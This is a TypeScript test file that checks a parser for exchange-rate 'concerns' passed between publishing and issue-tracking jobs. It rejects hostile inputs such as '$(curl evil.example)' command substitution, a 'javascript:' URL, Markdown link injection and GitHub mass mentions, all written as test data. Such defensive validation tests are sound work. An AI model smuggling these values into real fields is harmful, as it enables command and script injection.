import { describe, expect, it } from 'vitest';
import { heldHkd as hkd } from '../../testing/data/held-hkd.ts';
import { parseConcerns } from './parse-concerns.ts';
import type { PublishConcerns } from './publish-concerns.ts';

const none: PublishConcerns = { staleRates: null, officialRates: null, composedRates: null, currencies: null };
const mirror = { mirror: 'https://one.example/usd.json', outcome: 'current', date: '2026-09-27' } as const;
const stale = { since: '2026-09-30T00:23:00.000Z', asOf: '2026-09-27', mirrors: [mirror] };
const doubt = { date: '2026-04-14', reason: 'implausible', code: 'USD', value: 1e9, since: '2026-04-14' } as const;
const official = { table: 'ecb', asOf: '2026-04-13', oldSince: '2026-04-14T16:00:00.000Z', doubts: [doubt] };
const composed = { since: '2026-09-28', asOf: '2026-09-30', missing: ['BTC', 'CNH'], mirrors: [mirror] };
const omitted = { ...hkd, state: 'omitted', published: null, publishedAsOf: null, basis: null, endsBy: null } as const;

const withMirror = (changes: object) => ({ staleRates: { ...stale, mirrors: [{ ...mirror, ...changes }] } });
const withDoubt = (changes: object) => ({ officialRates: [{ ...official, doubts: [{ ...doubt, ...changes }] }] });
const withCurrency = (changes: object) => ({ currencies: [{ ...hkd, ...changes }] });

describe('parseConcerns (parses what the publish job hands to the job that keeps the issues)', () => {
  it.each<PublishConcerns>([
    none,
    { staleRates: stale, officialRates: [official], composedRates: composed, currencies: [hkd, omitted] },
    {
      staleRates: { ...stale, mirrors: [{ mirror: 'http://x', outcome: 'failed', date: null }] },
      officialRates: [{ ...official, oldSince: null, doubts: [{ ...doubt, code: null, value: null }] }],
      composedRates: { ...composed, missing: [], mirrors: [] },
      currencies: [],
    },
  ])('returns concerns that were written as JSON', (concerns) => {
    const json = JSON.stringify(concerns);
    expect(parseConcerns(json)).toEqual(concerns);
    // A job's output is written only if it has no white space.
    expect(json).toMatch(/^\S+$/);
  });

  it('returns null for an empty text, because the publish ended before validation', () => {
    expect(parseConcerns('')).toBeNull();
  });

  it.each<[string, unknown]>([
    ['text that is not JSON', 'live=https://evil.example'],
    ['null', null],
    ['a list', []],
    ['an unknown kind of concern', { ...none, note: '@me' }],
    ['a missing kind of concern', { ...none, currencies: undefined }],
    ['currencies that are not a list', { currencies: hkd }],
    ['a currency that is null', { currencies: [null] }],
    ['a code with Markdown', withCurrency({ code: '[x](y)' })],
    ['a code that mentions a GitHub user', withCurrency({ code: '@everyone' })],
    ['a code with a line break', withCurrency({ code: 'HKD\n' })],
    ['a state other than held or omitted', withCurrency({ state: 'accepted' })],
    ['an unknown value of “reason”', withCurrency({ reason: 'toString' })],
    ['Markdown in place of a reason', withCurrency({ reason: '`\n# [look](https://evil.example)' })],
    ['a list as the value of “reason”', withCurrency({ reason: ['off_parity'] })],
    ['a date that does not exist', withCurrency({ since: '2026-02-30' })],
    ['a date followed by text', withCurrency({ since: '2026-09-21 @me' })],
    ['a rate that is text', withCurrency({ published: '7.8' })],
    ['a shell command in place of a rate', withCurrency({ sourceValue: '$(curl evil.example)' })],
    ['a rate of zero', withCurrency({ sourceValue: 0 })],
    ['a count that isn’t whole', withCurrency({ agreeing: 1.5 })],
    ['an unknown value of “basis”', withCurrency({ basis: 'x' })],
    ['the name of a witness', withCurrency({ witnesses: ['@me'] })],
    ['an unknown field', withCurrency({ note: '@me' })],
    ['a missing field', withCurrency({ bound: undefined })],
    ['stale rates without fields', { staleRates: {} }],
    ['“@everyone” in place of a time', { staleRates: { ...stale, since: '@everyone' } }],
    ['rates of a date that doesn’t exist', { staleRates: { ...stale, asOf: '2026-09-31' } }],
    ['Markdown in a mirror’s URL', withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' })],
    ['a javascript: URL as a mirror', withMirror({ mirror: 'javascript:alert(1)' })],
    ['a shell command as the outcome of a mirror', withMirror({ outcome: '$(curl evil.example)' })],
    ['“@me” in place of a mirror’s date', withMirror({ date: '@me' })],
    ['composed rates without fields', { composedRates: {} }],
    ['“@me” in place of a missing currency', { composedRates: { ...composed, missing: ['@me'] } }],
    ['composed rates of a date that doesn’t exist', { composedRates: { ...composed, asOf: '2026-09-31' } }],
    ['an empty list of official rates', { officialRates: [] }],
    ['official rates without fields', { officialRates: [{}] }],
    ['official rates of a date that doesn’t exist', { officialRates: [{ ...official, asOf: '2026-02-30' }] }],
    ['“@me” in place of the time of official rates', { officialRates: [{ ...official, oldSince: '@me' }] }],
    ['“@me” in place of an official doubt’s reason', withDoubt({ reason: '@me' })],
    ['“@me” in place of an official doubt’s currency', withDoubt({ code: '@me' })],
    ['“@me” in place of an official doubt’s value', withDoubt({ value: '@me' })],
  ])('rejects %s', (_, value) => {
    const isConcern = typeof value === 'object' && value !== null && !Array.isArray(value);
    const text = typeof value === 'string' ? value : JSON.stringify(isConcern ? { ...none, ...value } : value);
    expect(parseConcerns(text)).toBeUndefined();
  });
});
